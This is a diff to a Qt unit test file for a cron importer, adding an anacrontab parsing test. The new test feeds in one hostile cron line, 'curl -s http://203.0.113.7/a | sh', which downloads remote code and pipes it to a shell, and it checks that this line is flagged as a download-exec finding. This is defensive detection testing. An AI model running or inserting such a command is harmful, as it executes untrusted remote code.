@@ -94,6 +94,7 @@ private slots:
     void e2scrubAll();
     void userCrontab();
     void maliciousCrontab();
+    void anacrontab();
     void detections_data();
     void detections();
     void formatWithoutAPath();
@@ -218,6 +219,32 @@ void TestCronImporter::maliciousCrontab()
              Severity::Medium);
     QCOMPARE(findingFor(m, QStringLiteral("node.cron.every-minute"), QStringLiteral("www-data"))->severity,
              Severity::Low);
+}
+
+void TestCronImporter::anacrontab()
+{
+    const MemoryImport m = runFixture(QStringLiteral("anacrontab"), QStringLiteral("worker-1/etc/anacrontab"));
+    QVERIFY(m.result.hasValue());
+    QCOMPARE(m.result.value().skipped, 0);
+    QCOMPARE(bodyOf(m).value(QStringLiteral("format")).toString(), QStringLiteral("anacron"));
+    QCOMPARE(env(m, "HOME"), QStringLiteral("/root@6"));
+    QCOMPARE(jobs(m), (QStringList{QStringLiteral("10|1\t5|root|run-parts --report /etc/cron.daily"),
+                                   QStringLiteral("11|7\t10|root|run-parts --report /etc/cron.weekly"),
+                                   QStringLiteral("12|@monthly\t15|root|run-parts --report /etc/cron.monthly")}));
+    QCOMPARE(bodyOf(m).value(QStringLiteral("jobs")).toArray().at(2).toObject().value(QStringLiteral("jobId")),
+             QJsonValue(QStringLiteral("cron.monthly")));
+    QVERIFY(m.out.findings.empty());
+
+    // Without the path, by its lines; a line no anacron job named.
+    const MemoryImport renamed = runBytes(readFile(dataPath(QStringLiteral("cron/anacrontab"))) +
+                                              "1 5 job-x curl -s http://203.0.113.7/a | sh\nx y cron.x\n",
+                                          QStringLiteral("anacron.txt"));
+    QCOMPARE(bodyOf(renamed).value(QStringLiteral("format")).toString(), QStringLiteral("anacron"));
+    QCOMPARE(findingLines(renamed), QStringList{QStringLiteral("node.cron.download-exec@13")});
+    const Issue* bad = findIssue(renamed.issues, QStringLiteral("cron.bad-line"));
+    QVERIFY(bad);
+    QCOMPARE(bad->lines, QVector<qint64>{14});
+    QVERIFY(bad->message.startsWith(QLatin1String("not an anacron job")));
 }
 
 void TestCronImporter::detections_data()
@@ -383,7 +410,7 @@ void TestCronImporter::largeInputStaysBounded()
 
 void TestCronImporter::nodeFromThePath()
 {
-    for (const char* path : {"worker-1/etc/crontab", "worker-1/etc/cron.d/e2scrub_all",
+    for (const char* path : {"worker-1/etc/crontab", "worker-1/etc/cron.d/e2scrub_all", "worker-1/etc/anacrontab",
                              "worker-1/var/spool/cron/crontabs/ubuntu", "worker-1/var/spool/cron/root"}) {
         const QString p = QStringLiteral("nodes.tar.gz/") + QLatin1String(path);
         QCOMPARE(LogLayout::recognize(p).node, QStringLiteral("worker-1"));
@@ -424,7 +451,8 @@ void TestCronImporter::sniff_data()
     QTest::addColumn<QByteArray>("head");
     QTest::addColumn<QString>("name");
     QTest::addColumn<bool>("cron");
-    for (const char* f : {"crontab", "e2scrub_all", "node-maintenance", "ubuntu", "www-data", "broken-crontab"})
+    for (const char* f :
+         {"crontab", "e2scrub_all", "node-maintenance", "ubuntu", "www-data", "broken-crontab", "anacrontab"})
         QTest::newRow(f) << readFile(dataPath(QStringLiteral("cron/") + QLatin1String(f))) << QString::fromLatin1(f)
                          << true;
     QTest::newRow("one job, renamed") << QByteArray("@reboot /usr/local/bin/start\n") << "notes.txt" << true;
